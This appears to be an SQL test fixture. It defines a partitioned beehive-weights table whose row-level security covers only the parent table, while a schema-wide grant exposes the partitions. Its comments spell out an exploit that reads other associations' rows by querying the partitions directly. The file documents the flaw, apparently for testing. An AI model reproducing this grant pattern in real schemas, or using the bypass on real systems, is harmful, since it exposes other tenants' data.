-- The hash partitions of the scales' table were granted with all tables, and only their parent has row
-- security.
-- about: weights
-- as: hf_bees_app
-- exploit: SET bee.user_id = '11';
-- exploit: SELECT kilos FROM bee.weights_0 UNION ALL SELECT kilos FROM bee.weights_1;
-- shows: 54.321
CREATE TABLE bee.weights (
  association_id bigint NOT NULL,
  apiary integer NOT NULL,
  hive integer NOT NULL,
  at timestamptz NOT NULL,
  kilos numeric NOT NULL,
  PRIMARY KEY (association_id, apiary, hive, at),
  FOREIGN KEY (association_id, apiary, hive) REFERENCES bee.hives (association_id, apiary, nr)
) PARTITION BY HASH (association_id);
CREATE TABLE bee.weights_0 PARTITION OF bee.weights FOR VALUES WITH (MODULUS 2, REMAINDER 0);
CREATE TABLE bee.weights_1 PARTITION OF bee.weights FOR VALUES WITH (MODULUS 2, REMAINDER 1);
ALTER TABLE bee.weights ENABLE ROW LEVEL SECURITY;
ALTER TABLE bee.weights FORCE ROW LEVEL SECURITY;
CREATE POLICY ours ON bee.weights USING (association_id = ANY (bee.mine()));
GRANT SELECT ON ALL TABLES IN SCHEMA bee TO hf_bees_app;
